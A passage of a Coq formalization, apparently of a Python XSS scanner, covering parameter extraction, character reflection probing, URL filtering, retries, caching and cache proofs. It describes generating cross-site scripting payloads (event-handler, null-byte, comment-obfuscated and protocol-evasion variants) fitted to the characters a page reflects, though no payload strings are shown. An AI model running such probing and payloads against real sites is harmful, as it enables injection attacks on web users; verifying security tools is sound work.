  match extract_parameters url with
  | [] => ret []
  | params =>
      r <~ analyze_params url (map fst params) [] ;
      match r with
      | Ok results => ret results
      | Raise _ => ret []
      end
  end.

(** ** [process_urls]: accumulation and output *)

(** [unique_payloads.update(param_payloads)] for every parameter of every
    URL. *)
Fixpoint collect (urls : list string) (unique_payloads : gset string)
  : M (gset string) :=
  match urls with
  | [] => ret unique_payloads
  | url :: rest =>
      result <~ analyze_url url ;
      collect rest
        (foldl (λ unique param_payloads, unique ∪ list_to_set param_payloads)
           unique_payloads (map snd result))
  end.

End Analyzer.

(** [sorted(unique_payloads)]: [str] is ordered by code points, which on
    UTF-8 is the order of the bytes. *)
Definition str_le (s1 s2 : string) : Prop := String.leb s1 s2 = true.

#[global] Instance str_le_dec s1 s2 : Decision (str_le s1 s2) :=
  decide (String.leb s1 s2 = true).

Definition sorted (unique_payloads : gset string) : list string :=
  merge_sort str_le (elements unique_payloads).

(** [payload.replace('\n', '').replace('\r', '').strip()] *)
Definition stripped_payload (payload : string) : string :=
  strip (remove_byte "013" (remove_byte "010" payload)).

(** The text written by the [for payload in sorted(unique_payloads)] loop. *)
Definition written (unique_payloads : gset string) : string :=
  join (flat_map
          (λ payload,
             if truthy (stripped_payload payload)
             then [stripped_payload payload +:+ LF] else [])
          (sorted unique_payloads)).

(** [file.readlines()]: every line with its newline, the last one without
    if the text does not end in one. Lines are cut at the newline only: the
    text read back is the text the writer has just written, from which
    every carriage return was removed, so that the universal newlines of
    the text mode have nothing to translate. *)
Fixpoint readlines (content : string) : list string :=
  match content with
  | EmptyString => []
  | String a content' =>
      if Ascii.eqb a "010" then String a "" :: readlines content'
      else
        match readlines content' with
        | line :: rest => String a line :: rest
        | [] => [String a ""]
        end
  end.

(** [remove_empty_lines]: the file rewritten without its blank lines. *)
Definition remove_empty_lines (content : string) : string :=
  join (filter (λ line, truthy (strip line) = true) (readlines content)).

(** The content of the output file at the end of [process_urls]. *)
Definition output_file (E : Env) (urls : list string) : M string :=
  unique_payloads <~ collect E urls ∅ ;
  ret (remove_empty_lines (written unique_payloads)).

(** ** [class CharacterSetLoader] *)

(** [s.startswith(prefix)] and [s.endswith(suffix)] *)
Definition startswith (prefix s : string) : bool := String.prefix prefix s.
Definition endswith (suffix s : string) : bool :=
  String.prefix (String.rev suffix) (String.rev s).

(** [s[1:-1]] *)
Definition slice_1_m1 (s : string) : string :=
  join (take (length (chars s) - 2) (drop 1 (chars s))).

Section Loader.

(** [str.lower], and the lines that iterating over the file opened at a
    path yields, or what opening or reading it raises. *)
Variable lower : string → string.
Variable open_lines : string → result (list string).

(** [line.startswith('[') and line.endswith(']')] *)
Definition is_header (line : string) : bool :=
  startswith "[" line && endswith "]" line.

(** [line[1:-1].strip().lower()] *)
Definition header_name (line : string) : string :=
  lower (strip (slice_1_m1 line)).

(** [for char in line: if char not in seen: ...] *)
Fixpoint add_chars (custom_chars : list (string * string))
    (current_group : string) (seen : gset string) (line : list string)
  : result (list (string * string)) :=
  match line with
  | [] => Ok custom_chars
  | char :: rest =>
      if bool_decide (char ∈ seen) then
        add_chars custom_chars current_group seen rest
      else
        value ← getitem custom_chars current_group;
        add_chars (setitem custom_chars current_group (value +:+ char))
          current_group ({[ char ]} ∪ seen) rest
  end.

(** [for line in f:]; [current_group] is [None] before the first header. *)
Fixpoint load_lines (lines : list string)
    (custom_chars : list (string * string)) (current_group : option string)
  : result (list (string * string)) :=
  match lines with
  | [] => Ok custom_chars
  | line :: rest =>
      let line := strip line in
      if negb (truthy line) || startswith "#" line then
        load_lines rest custom_chars current_group
      else if is_header line then
        let current_group := header_name line in
        load_lines rest (setitem custom_chars current_group "")
          (Some current_group)
      else
        match current_group with
        | Some group =>
            if truthy group then
              value ← getitem custom_chars group;
              custom_chars ←
                add_chars custom_chars group (list_to_set (chars value))
                  (chars line);
              load_lines rest custom_chars current_group
            else load_lines rest custom_chars current_group
        | None => load_lines rest custom_chars current_group
        end
  end.

(** [load_from_file]: without a path, with a file that cannot be read, or
    with a file that defines no group, the built-in groups. *)
Definition load_from_file (file_path : option string)
  : list (string * string) :=
  match file_path with
  | None => default_char_groups
  | Some path =>
      if negb (truthy path) then default_char_groups
      else
        match lines ← open_lines path; load_lines lines [] None with
        | Ok [] => default_char_groups
        | Ok custom_chars => custom_chars
        | Raise _ => default_char_groups
        end
  end.

End Loader.

(** ** [filter_urls] *)

(** The attributes of [urllib.parse.urlparse(url)] that are read. *)
Module ParseResult.
Record t := { scheme : string; netloc : string; path : string; query : string }.
End ParseResult.

Section FilterUrls.

(** [urllib.parse.urlparse], the keys of
    [urllib.parse.parse_qs(query, keep_blank_values=True)], and the class
    [\w] of [re] on a code point. *)
Variable urlparse : string → result ParseResult.t.
Variable parse_qs : string → result (list string).
Variable is_word : string → bool.

(** [url_pattern.match(url)] for [^https?://] *)
Definition url_pattern_match (url : string) : bool :=
  startswith "http://" url || startswith "https://" url.

(** [special_chars.findall(url)] for [[^\w\-./&?=%]] *)
Definition special_chars_findall (url : string) : list string :=
  filter
    (λ c, negb (is_word c
                || bool_decide (c ∈ ["-"; "."; "/"; "&"; "?"; "="; "%"]))
          = true)
    (chars url).

(** [len(special_chars.findall(url)) / len(url) > 0.5]; the quotient of
    floats and the exact one compare alike with 0.5 as long as the URL has
    fewer than 2^53 characters. *)
Definition mostly_special (url : string) : bool :=
  (len url <? 2 * Z.of_nat (length (special_chars_findall url)))%Z.

(** [f"{parsed.scheme}://{parsed.netloc}{parsed.path}"] *)
Definition base_url (parsed : ParseResult.t) : string :=
  ParseResult.scheme parsed +:+ "://" +:+ ParseResult.netloc parsed
    +:+ ParseResult.path parsed.

(** The body of the loop on [filtered], [seen_patterns] and
    [no_params_count]; an exception of the parsers skips the URL. *)
Definition filter_step
    (state : list string * gset (string * gset string) * Z) (url : string)
  : list string * gset (string * gset string) * Z :=
  let '(filtered, seen_patterns, no_params_count) := state in
  let url := strip url in
  if negb (truthy url) || negb (url_pattern_match url) then state
  else if mostly_special url then state
  else
    match urlparse url with
    | Raise _ => state
    | Ok parsed =>
        if negb (truthy (ParseResult.query parsed)) then
          (filtered, seen_patterns, (no_params_count + 1)%Z)
        else
          match parse_qs (ParseResult.query parsed) with
          | Raise _ => state
          | Ok params =>
              let pattern := (base_url parsed, list_to_set params) in
              if bool_decide (pattern ∈ seen_patterns) then state
              else (filtered ++ [url], {[ pattern ]} ∪ seen_patterns,
                    no_params_count)
          end
    end.

Definition filter_urls (urls : list string) : list string * Z :=
  let '(filtered, _, no_params_count) := foldl filter_step ([], ∅, 0%Z) urls in
  (filtered, no_params_count).

End FilterUrls.

(** ** [Updater._compare_versions] *)

(** [s.split('.')] *)
Fixpoint split_dots (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String a s' =>
      if Ascii.eqb a "." then "" :: split_dots s'
      else
        match split_dots s' with
        | piece :: rest => String a piece :: rest
        | [] => [String a ""]
        end
  end.

(** [while len(parts) < n: parts.append(0)] *)
Definition pad (parts : list Z) (n : nat) : list Z :=
  parts ++ repeat 0%Z (n - length parts).

(** [l1 > l2] on lists of integers: the first difference decides, and a
    list is greater than its proper prefixes. *)
Fixpoint list_gt (l1 l2 : list Z) : bool :=
  match l1, l2 with
  | x :: l1', y :: l2' => if (x =? y)%Z then list_gt l1' l2' else (y <? x)%Z
  | _ :: _, [] => true
  | [], _ => false
  end.

Section Versions.

(** [int] on a [str]: the integer, or the [ValueError] it raises. *)
Variable int : string → result Z.

(** [_compare_versions]: whatever is raised gives [False]. *)
Definition _compare_versions (v1 v2 : string) : bool :=
  match
    v1_parts ← mapM int (split_dots v1);
    v2_parts ← mapM int (split_dots v2);
    let v1_parts := pad v1_parts (length v2_parts) in
    let v2_parts := pad v2_parts (length v1_parts) in
    Ok (list_gt v1_parts v2_parts)
  with
  | Ok newer => newer
  | Raise _ => false
  end.

End Versions.

(** ** [retry_request] *)

Section Retry.

(** What the request of the attempt [attempt] gives: the text of the
    response, or what [session.get] or [response.text] raises. *)
Variable attempt_text : nat → result string.

(** The loop [for attempt in range(max_retries)] from [attempt] on, with
    [remaining] turns left: what it returns or raises, and the delays it
    has slept through. After the loop the function returns the empty
    string. *)
Fixpoint retry_from (max_retries : Z) (delay : Q) (attempt remaining : nat)
  : result string * list Q :=
  match remaining with
  | O => (Ok "", [])
  | S remaining' =>
      match attempt_text attempt with
      | Ok text_ => (Ok text_, [])
      | Raise e =>
          if (Z.of_nat attempt =? max_retries - 1)%Z then (Raise e, [])
          else
            let '(r, sleeps) :=
              retry_from max_retries delay (S attempt) remaining' in
            (r, (delay * inject_Z (Z.of_nat attempt + 1))%Q :: sleeps)
      end
  end.

Definition retry_request (max_retries : Z) (delay : Q)
  : result string * list Q :=
  retry_from max_retries delay 0 (Z.to_nat max_retries).

End Retry.

(** ** [validate_url_parameters], [validate_url_list] and [get_all_unique_chars] *)

(** [len(params) > 0]; [extract_parameters] handles its own exceptions. *)
Definition validate_url_parameters (E : Env) (url : string) : bool :=
  (0 <? length (extract_parameters E url))%nat.

(** [[url.strip() for url in urls if self.validate_url_parameters(url.strip())]]
    and its truth value. *)
Definition validate_url_list (E : Env) (urls : list string)
  : bool * list string :=
  let valid_urls :=
    map strip
      (filter (λ url, validate_url_parameters E (strip url) = true) urls) in
  (match valid_urls with [] => false | _ => true end, valid_urls).

(** [set(''.join(chars.values()))], [chars] being the catalog. *)
Definition get_all_unique_chars (char_groups : list (string * string))
  : gset string :=
  list_to_set (chars (join (map snd char_groups))).

(** ** Definitions used to state the properties *)

(** The reflection oracle on a whole string: the parameter is set to
    [marker], the status is 200 and [marker] occurs verbatim in the body. *)
Definition reflected (E : Env) (url param marker : string) : bool :=
  match fetch E url param marker with
  | Ok response =>
      (status response =? 200)%Z
      && match text response with
         | Ok content => contains marker content
         | Raise _ => false
         end
  | Raise _ => false
  end.

(** Every character of every string of [fragments] is in
    [analysis.allowed_chars]. *)
Definition chars_allowed (analysis : ParamAnalysis) (fragments : list string)
  : Prop :=
  ∀ fragment, fragment ∈ fragments →
  ∀ c, c ∈ chars fragment → c ∈ allowed_chars analysis.

(** Where a payload of [generate_dynamic_payloads] comes from and what was
    checked before it was emitted:
    - a comment-obfuscated candidate of a tag, one of its mutations and a
      function: every character of the tag, of the mutation and of the
      function, and the characters [< > * /];
    - a null-byte candidate: every character of the tag, of the mutation and
      of the function, the characters [< >] and the null byte;
    - an event candidate of a tag and an event-handler variant: every
      character of the tag and of the variant, the characters [< > =], and
      with them the quotes flag, or [:], or [&] and [;];
    - an evasion string: every character of the string. *)
Definition emitted_with_checks (analysis : ParamAnalysis) (p : string) : Prop :=
  (∃ tag mutated_tag func,
     tag ∈ base_tags ∧ mutated_tag ∈ get_or_self tag_mutations tag
     ∧ func ∈ js_functions
     ∧ p ∈ comment_variants mutated_tag func
     ∧ chars_allowed analysis [tag; mutated_tag; func; "<"; ">"; "*"; "/"])
  ∨ (∃ tag mutated_tag func,
       tag ∈ base_tags ∧ mutated_tag ∈ get_or_self tag_mutations tag
       ∧ func ∈ js_functions
       ∧ p ∈ null_variants tag func
       ∧ chars_allowed analysis [tag; mutated_tag; func; "<"; ">"; NUL])
  ∨ (∃ tag event ev,
       tag ∈ event_tags ∧ event ∈ event_handlers
       ∧ ev ∈ get_or_self event_mutations event
       ∧ chars_allowed analysis [tag; ev; "<"; ">"; "="]
       ∧ (p = data_variant tag ev ∧ allows_quotes analysis = true
          ∨ p = protocol_variant tag ev ∧ chars_allowed analysis [":"]
          ∨ p = entity_variant tag ev ∧ chars_allowed analysis ["&"; ";"]))
  ∨ (p ∈ dom_evasions ++ proto_evasions ∧ chars_allowed analysis [p]).

(** A profile that allows the angles, the letters of [img], [svg], [SvG],
    [onclick] and [prompt], and the characters [* / = :]. *)
Definition letters_profile : ParamAnalysis :=
  {| param := "q"; url := "http://h/?q=1";
     allowed_chars := list_to_set (chars "<>imgsvSGonclkprt*/=:");
     blocked_chars := ∅; max_length := None;
     allows_spaces := false; allows_quotes := false; allows_angles := true;
     allows_parens := false; allows_scripts := false; allows_events := false |}.

(** What a probe asks about a character: is it reflected when doubled. *)
Definition probe (E : Env) (url param char : string) : bool :=
  reflected E url param (mul char 2).

(** Every entry of the cache of [test_chars_batch] holds the answer of the
    probe of its character. *)
Definition cache_sound (E : Env) (url param : string) (cache : CacheManager.t)
  : Prop :=
  ∀ c r timestamp,
    CacheManager.cache cache !! cache_key url param c = Some (r, timestamp) →
    r = probe E url param c.

(** A suspended task of the character [c]. *)
Definition task_of (E : Env) (url param c : string) (task : suspended) : Prop :=
  match task with
  | Finished answer => answer = (c, probe E url param c)
  | Awaiting c' test_url =>
      c' = c ∧ build_test_url E url param (mul c 2) = Ok test_url
  end.

(** The viability gate of [analyze_parameter]: whether one of the sample
    characters is reflected. *)
Definition viability_gate (E : Env) (url param : string) : result bool :=
  basic ← getitem (char_groups E) "basic";
  initial_results ←
    gather_probes E url param
      (take (min 10 (length (chars basic))) (chars basic));
  Ok (any initial_results).

(** The characters probed during the full sweep of one analysis: those of
    [swept_chars] when the gate lets the sweep run, none otherwise. *)
Definition probed_in_sweep (E : Env) (url param : string) : gset string :=
  match viability_gate E url param with
  | Ok true => list_to_set (swept_chars E)
  | _ => ∅
  end.

(** *** Concrete runs *)

(** [s] without the bytes that are not lower-case ASCII letters. *)
Fixpoint keep_lowercase (s : string) : string :=
  match s with
  | EmptyString => ""
  | String a s' =>
      if ((97 <=? N_of_ascii a) && (N_of_ascii a <=? 122))%N
      then String a (keep_lowercase s') else keep_lowercase s'
  end.

(** [s] cut at the first byte [sep], if there is one. *)
Fixpoint split_at (sep : ascii) (s : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String a s' =>
      if Ascii.eqb a sep then Some ("", s')
      else
        match split_at sep s' with
        | Some (before, after) => Some (String a before, after)
        | None => None
        end
  end.

(** The part of a URL before its query, and its query. *)
Definition base_of (url : string) : string :=
  match split_at "?" url with
  | Some (base, _) => base
  | None => url
  end.

Definition query_of (url : string) : string :=
  match split_at "?" url with
  | Some (_, query) => query
  | None => ""
  end.

(** The value of the parameter of a probe URL. *)
Definition query_value (test_url : string) : string :=
  match split_at "=" (query_of test_url) with
  | Some (_, value) => value
  | None => ""
  end.

(** The environment of a page that answers by the value of the parameter
    probed; the console is [console] and the catalog [groups]. *)
Definition page_env (answer : string → result Response)
    (console : string → result ()) (groups : list (string * string)) : Env :=
  {| build_test_url := λ url param value,
       Ok (base_of url +:+ "?" +:+ param +:+ "=" +:+ value);
     session_get := λ test_url, answer (query_value test_url);
     console_print := console;
     char_groups := groups;
     urlparse_query := λ url, Ok (query_of url);
     unquote := λ s, s |}.

(** A page that echoes its parameter after removing everything but the
    lower-case letters; the catalog has two small groups. *)
Definition letters_env : Env :=
  page_env
    (λ value,
       Ok {| status := 200;
             text := Ok ("<p>" +:+ keep_lowercase value +:+ "</p>") |})
    (λ _, Ok ())
    [("basic", "a1"); ("special", "<>")].

(** A search page that echoes its parameter verbatim when it has at least
    three bytes and answers with a fixed notice otherwise. *)
Definition min_length_env : Env :=
  page_env
    (λ value,
       Ok {| status := 200;
             text :=
               Ok (if (3 <=? String.length value)%nat
                   then "Results for " +:+ value
                   else "Short query") |})
    (λ _, Ok ())
    [("basic", "a1"); ("special", "<>")].

(** A server that never answers: every request times out. *)
Definition silent_env : Env :=
  page_env (λ _, Raise TimeoutError) (λ _, Ok ()) default_char_groups.

(** The URL of the concrete runs. *)
Definition page_url : string := "http://h/?q=1".

(** The world of the concrete runs: the clock stands at 0. *)
Definition still_world : world := World (λ _, 0%Q) 0.

(** The profile of the parameter [q] of the page of [letters_env]. *)
Definition letters_env_profile : ParamAnalysis :=
  {| param := "q"; url := page_url;
     allowed_chars := list_to_set ["a"];
     blocked_chars := list_to_set ["1"; "<"; ">"];
     max_length := Some 9%Z;
     allows_spaces := false; allows_quotes := false; allows_angles := false;
     allows_parens := false; allows_scripts := true; allows_events := true |}.

(** A lone surrogate (U+DCFF, as [sys.argv] decodes the stray byte FF),
    which no UTF-8 console can print. *)
Definition lone_surrogate : string := chr 237 +:+ chr 179 +:+ chr 191.

(** A URL with the parameters [a] and the lone surrogate. *)
Definition surrogate_url : string :=
  "http://h/?a=1&" +:+ lone_surrogate +:+ "=2".

(** Nothing answers; printing a text with the surrogate raises. *)
Definition surrogate_env : Env :=
  page_env
    (λ _, Raise TimeoutError)
    (λ text_,
       if contains lone_surrogate text_ then Raise UnicodeError else Ok ())
    default_char_groups.

(** *** The payloads a run can accumulate *)

(** Every string the two generators can emit, whatever the profile. *)
Definition universe : list string :=
  script_family ++ quoted_family ++ encoded_family ++ css_family
  ++ (tag ← base_tags;
      mutated_tag ← get_or_self tag_mutations tag;
      func ← js_functions;
      comment_variants mutated_tag func ++ null_variants tag func)
  ++ (tag ← event_tags;
      event ← event_handlers;
      ev ← get_or_self event_mutations event;
      [data_variant tag ev; protocol_variant tag ev; entity_variant tag ev])
  ++ dom_evasions ++ proto_evasions.

(** [s] has no newline byte. *)
Fixpoint no_newline (s : string) : bool :=
  match s with
  | EmptyString => true
  | String a s' => negb (Ascii.eqb a "010") && no_newline s'
  end.

(** A payload that the writer leaves as it is and that makes one line that
    is not blank. *)
Definition line_safe (payload : string) : bool :=
  String.eqb (stripped_payload payload) payload
  && truthy payload
  && no_newline payload
  && truthy (strip (payload +:+ LF)).

(** The lines of a file with one payload per line. *)
Definition lines_of (payloads : list string) : list string :=
  map (λ payload, payload +:+ LF) payloads.

(** The payload lists of a results dict come from the generators. *)
Definition generated (results : list (string * list string)) : Prop :=
  Forall (λ kv, Forall (λ p, p ∈ universe) (snd kv)) results.

(** *** Definitions for the further properties *)

(** [analysis] with another set of blocked characters. *)
Definition with_blocked (analysis : ParamAnalysis) (blocked : gset string)
  : ParamAnalysis :=
  {| param := param analysis; url := url analysis;
     allowed_chars := allowed_chars analysis;
     blocked_chars := blocked;
     max_length := max_length analysis;
     allows_spaces := allows_spaces analysis;
     allows_quotes := allows_quotes analysis;
     allows_angles := allows_angles analysis;
     allows_parens := allows_parens analysis;
     allows_scripts := allows_scripts analysis;
     allows_events := allows_events analysis |}.

(** A profile that allows the characters of [javascript:this], blocks [<]
    and has the length limit 20. *)
Definition javascript_profile : ParamAnalysis :=
  {| param := "q"; url := page_url;
     allowed_chars := list_to_set (chars "javascript:this");
     blocked_chars := {[ "<" ]}; max_length := Some 20%Z;
     allows_spaces := false; allows_quotes := false;
     allows_angles := false; allows_parens := false;
     allows_scripts := false; allows_events := false |}.

(** The values of a results dict are the answers of the probes. *)
Definition values_sound (E : Env) (url param : string)
    (results : gmap string bool) : Prop :=
  ∀ c v, results !! c = Some v → v = probe E url param c.

(** A page that echoes its parameter verbatim; the catalog has the one
    group [basic] with the characters of [javascript:this]. *)
Definition echo_env : Env :=
  page_env (λ value, Ok {| status := 200; text := Ok value |})
    (λ _, Ok ()) [("basic", "javascript:this")].

(** The profile of the parameter [q] of the page of [echo_env]. *)
Definition echo_env_profile : ParamAnalysis :=
  {| param := "q"; url := page_url;
     allowed_chars := list_to_set (chars "javascript:this");
     blocked_chars := ∅; max_length := Some 5000%Z;
     allows_spaces := false; allows_quotes := false; allows_angles := false;
     allows_parens := false; allows_scripts := true; allows_events := true |}.

(** A catalog without the group [basic], on a page that echoes. *)
Definition no_basic_env : Env :=
  page_env (λ value, Ok {| status := 200; text := Ok value |})
    (λ _, Ok ()) [("special", "<>")].

(** A results dict of [analyze_url]: its keys are distinct and among
    [params]; each list of payloads is not empty and has no duplicate. *)
Definition results_shape (params : list string)
    (results : list (string * list string)) : Prop :=
  NoDup (map fst results)
  ∧ Forall (λ kv, fst kv ∈ params ∧ snd kv ≠ [] ∧ NoDup (snd kv)) results.

(** A cache with one entry, stored at time 0. *)
Definition one_entry_cache : CacheManager.t :=
  CacheManager.Cache {[ "k" := (true, 0%Q) ]} 300.

(** *** Strings as sequences of code points *)

(** Every byte of [s] is a continuation byte. *)
Fixpoint all_continuation (s : string) : bool :=
  match s with
  | EmptyString => true
  | String b s' => is_continuation b && all_continuation s'
  end.

(** One code point: a byte and the continuation bytes after it. *)
Definition code_point (c : string) : bool :=
  match c with
  | String b t => all_continuation t
  | EmptyString => false
  end.

(** A list of code points as [chars] gives them: only the first can begin
    with a continuation byte, and does when the string itself does. *)
Definition str_like (l : list string) : Prop :=
  Forall (λ c, code_point c = true) l
  ∧ Forall (λ c, starts_with_continuation c = false) (tail l).

(** [strip] on the list of code points. *)
Definition strip_chars (l : list string) : list string :=
  reverse (lstrip_chars (reverse (lstrip_chars l))).

(** [s] has no byte [b]. *)
Fixpoint no_byte (b : ascii) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String a s' => negb (Ascii.eqb a b) && no_byte b s'
  end.

(** The payloads the writer writes a line for, as it writes them, in the
    order of its loop. *)
Definition written_payloads (unique_payloads : gset string) : list string :=
  filter (λ q, truthy q = true)
    (map stripped_payload (sorted unique_payloads)).

(** *** The catalog read from a file *)

(** A group of a catalog read from a file: no character twice, and nothing
    in the group whose name is empty. *)
Definition group_ok (kv : string * string) : Prop :=
  NoDup (chars (snd kv))
  ∧ starts_with_continuation (snd kv) = false
  ∧ (fst kv = "" → snd kv = "").

Definition catalog_ok (custom_chars : list (string * string)) : Prop :=
  NoDup (map fst custom_chars) ∧ Forall group_ok custom_chars.

(** [str.lower] on the bytes that are ASCII letters. *)
Fixpoint ascii_lower (s : string) : string :=
  match s with
  | EmptyString => ""
  | String a s' =>
      String
        (if ((65 <=? N_of_ascii a) && (N_of_ascii a <=? 90))%N
         then ascii_of_N (N_of_ascii a + 32) else a)
        (ascii_lower s')
  end.

(** A file that defines the one group [special], and a file with characters
    and no group. *)
Definition special_file : list string :=
  [ "# angles" +:+ LF; "[ Special ]" +:+ LF; "<><>" +:+ LF; "(<)" +:+ LF ].

Definition headless_file : list string :=
  [ "# no group" +:+ LF; "<>()" +:+ LF; LF ].

Definition open_files (path : string) : result (list string) :=
  if String.eqb path "special.txt" then Ok special_file
  else if String.eqb path "headless.txt" then Ok headless_file
  else Raise OSError.

(** A page that echoes, probed with the catalog of [special_file]. *)
Definition special_env : Env :=
  page_env (λ value, Ok {| status := 200; text := Ok value |})
    (λ _, Ok ())
    (load_from_file ascii_lower open_files (Some "special.txt")).

(** *** The URLs [filter_urls] keeps *)

Section FilterPatterns.

Variable urlparse : string → result ParseResult.t.
Variable parse_qs : string → result (list string).
Variable is_word : string → bool.

(** The pattern of a URL that passes every check of the loop: its base and
    the set of the names of its parameters. *)
Definition pattern_of (url : string) : option (string * gset string) :=
  if negb (truthy url) || negb (url_pattern_match url) then None
  else if mostly_special is_word url then None
  else
    match urlparse url with
    | Raise _ => None
    | Ok parsed =>
        if negb (truthy (ParseResult.query parsed)) then None
        else
          match parse_qs (ParseResult.query parsed) with
          | Raise _ => None
          | Ok params => Some (base_url parsed, list_to_set params)
          end
    end.

(** A URL that passes the checks on its text, is parsed, and has an empty
    query. *)
Definition without_params (url : string) : bool :=
  truthy url && url_pattern_match url && negb (mostly_special is_word url)
  && match urlparse url with
     | Ok parsed => negb (truthy (ParseResult.query parsed))
     | Raise _ => false
     end.

(** The state of the loop after the URLs [processed]. *)
Definition filter_inv (processed : list string)
    (state : list string * gset (string * gset string) * Z) : Prop :=
  let '(filtered, seen_patterns, no_params_count) := state in
  Forall (λ url, strip url = url ∧ is_Some (pattern_of url)) filtered
  ∧ NoDup (omap pattern_of filtered)
  ∧ seen_patterns = list_to_set (omap pattern_of filtered)
  ∧ filtered `sublist_of` map strip processed
  ∧ no_params_count
    = Z.of_nat (length (filter (λ url, without_params (strip url) = true)
                          processed))
  ∧ (∀ url pattern, url ∈ processed →
       pattern_of (strip url) = Some pattern → pattern ∈ seen_patterns).

End FilterPatterns.

(** *** Versions *)

(** The component [i] of a version, 0 beyond its last component. *)
Definition component (parts : list Z) (i : nat) : Z := nth i parts 0%Z.

(** [parts1] is above [parts2] at the first component where they differ. *)
Definition newer_at (parts1 parts2 : list Z) (i : nat) : Prop :=
  (∀ j, (j < i)%nat → component parts1 j = component parts2 j)
  ∧ (component parts2 i < component parts1 i)%Z.

(** The components of a version as [_compare_versions] reads them. *)
Definition parts_of (int : string → result Z) (v : string) : result (list Z) :=
  mapM int (split_dots v).

(** [int] on a non-empty string of ASCII digits. *)
Fixpoint digits_value (s : string) (acc : Z) : result Z :=
  match s with
  | EmptyString => Ok acc
  | String a s' =>
      if ((48 <=? N_of_ascii a) && (N_of_ascii a <=? 57))%N
      then digits_value s' (10 * acc + Z.of_N (N_of_ascii a - 48))%Z
      else Raise ValueError
  end.

Definition int_of_digits (s : string) : result Z :=
  match s with
  | EmptyString => Raise ValueError
  | _ => digits_value s 0%Z
  end.

(** *** What a URL contributes to a run *)

(** The payloads of all the parameters of a URL. *)
Definition url_payloads (E : Env) (url : string) : gset string :=
  foldl (λ unique param_payloads, unique ∪ list_to_set param_payloads) ∅
    (map snd (fst (analyze_url E url still_world))).

(** *** Retries *)

(** The delays slept through after the failures of the attempts from
    [attempt] on, [failures] of them. *)
Definition backoff (delay : Q) (attempt failures : nat) : list Q :=
  map (λ j, (delay * inject_Z (Z.of_nat j + 1))%Q) (seq attempt failures).

(** A server that fails twice and then answers. *)
Definition third_time_lucky (attempt : nat) : result string :=
  match attempt with
  | 0%nat => Raise TimeoutError
  | 1%nat => Raise ClientError
  | _ => Ok "<p>ok</p>"
  end.

(** *** A test whose answer changes, and a page with punctuation *)

(** A test that accepts the first time it is asked and never again. *)
Definition first_time_only (payload : string) : M bool :=
  λ w, (Nat.eqb (tick w) 0, World (clock w) (S (tick w))).

(** A page that echoes its parameter verbatim; the catalog has a letter,
    the space, the quotes, the angles and the parentheses. *)
Definition punctuation_env : Env :=
  page_env (λ value, Ok {| status := 200; text := Ok value |})
    (λ _, Ok ()) [("basic", "a"); ("special", " " +:+ DQ +:+ "'<>()")].

(** The profile of the parameter [q] of the page of [punctuation_env]. *)
Definition punctuation_env_profile : ParamAnalysis :=
  {| param := "q"; url := page_url;
     allowed_chars := list_to_set (chars ("a " +:+ DQ +:+ "'<>()"));
     blocked_chars := ∅; max_length := Some 5000%Z;
     allows_spaces := true; allows_quotes := true; allows_angles := true;
     allows_parens := true; allows_scripts := true; allows_events := true |}.

(** * Properties *)

(** ** The cache *)

Section CacheProperties.

Import CacheManager.

Lemma fresh_true (self : t) (now timestamp : Q) :
  fresh self now timestamp = true ↔ (now - timestamp <= inject_Z (ttl self))%Q.
Proof. apply Qle_bool_iff. Qed.

Lemma fresh_false (self : t) (now timestamp : Q) :
  fresh self now timestamp = false ↔ (inject_Z (ttl self) < now - timestamp)%Q.
Proof.
  rewrite <- not_true_iff_false, fresh_true. split.
  - apply Qnot_le_lt.
  - apply Qlt_not_le.
Qed.

(** A key that is absent is answered [None] without reading the clock. *)
Lemma get_absent (self : t) (key : string) (w : world) :
  cache self !! key = None → get self key w = ((None, self), w).
Proof. intros H. unfold get. by rewrite H. Qed.

(** A fresh entry is answered and nothing changes but the clock. *)
Lemma get_fresh (self : t) (key : string) (result : bool) (timestamp : Q)
    (w : world) :
  cache self !! key = Some (result, timestamp) →
  (clock w (tick w) - timestamp <= inject_Z (ttl self))%Q →
  get self key w = ((Some result, self), World (clock w) (S (tick w))).
Proof.
  intros H Hage. unfold get. rewrite H. unfold bind, time_time, ret.
  apply fresh_true in Hage. by rewrite Hage.
Qed.

Lemma get_stale (self : t) (key : string) (result : bool) (timestamp : Q)
    (w : world) :
  cache self !! key = Some (result, timestamp) →
  (inject_Z (ttl self) < clock w (tick w) - timestamp)%Q →
  get self key w
  = ((None, Cache (delete key (cache self)) (ttl self)),
     World (clock w) (S (tick w))).
Proof.
  intros H Hage. unfold get. rewrite H. unfold bind, time_time, ret.
  apply fresh_false in Hage. by rewrite Hage.
Qed.

Lemma set_spec (self : t) (key : string) (value : bool) (w : world) :
  set self key value w
  = (Cache (<[key := (value, clock w (tick w))]> (cache self)) (ttl self),
     World (clock w) (S (tick w))).
Proof. reflexivity. Qed.

End CacheProperties.

(** C7. A [get] on an entry whose age exceeds the TTL answers [None] and
    leaves a cache from which that entry is gone, the other entries being
    untouched; a [set] followed by a [get] of the same key at the next clock
    reading, taken before the TTL has elapsed, answers the value just set and
    leaves the cache as [set] made it. *)
Theorem cache_get_stale_and_set_get :
  (∀ (self : CacheManager.t) (key : string) (result : bool) (timestamp : Q)
     (w : world),
     CacheManager.cache self !! key = Some (result, timestamp) →
     (inject_Z (CacheManager.ttl self) < clock w (tick w) - timestamp)%Q →
     ∃ self' w',
       CacheManager.get self key w = ((None, self'), w')
       ∧ CacheManager.cache self' !! key = None
       ∧ CacheManager.cache self' = delete key (CacheManager.cache self)
       ∧ CacheManager.get self' key w' = ((None, self'), w'))
  ∧ (∀ (self : CacheManager.t) (key : string) (value : bool) (w : world),
       (clock w (S (tick w)) - clock w (tick w)
        <= inject_Z (CacheManager.ttl self))%Q →
       ∃ self' w' w'',
         CacheManager.set self key value w = (self', w')
         ∧ CacheManager.get self' key w' = ((Some value, self'), w'')).
Proof.
  split.
  - intros self key result timestamp w Hentry Hage.
    eexists _, _. split; [by eapply get_stale|].
    cbn. rewrite lookup_delete_eq. repeat split.
    apply get_absent. cbn. apply lookup_delete_eq.
  - intros self key value w Hage.
    eexists _, _, _. split; [apply set_spec|].
    eapply get_fresh; cbn.
    + apply lookup_insert_eq.
    + exact Hage.
Qed.

(** The default cache at an entry written at time 0 and read at time 301,
    and a write followed by a read within the same second. *)
Lemma cache_get_stale_and_set_get_witness :
  (∃ self' w',
     CacheManager.get
       (CacheManager.Cache {[ "k" := (true, 0%Q) ]} CacheManager.default_ttl)
       "k" (World (λ _, 301%Q) 0) = ((None, self'), w')
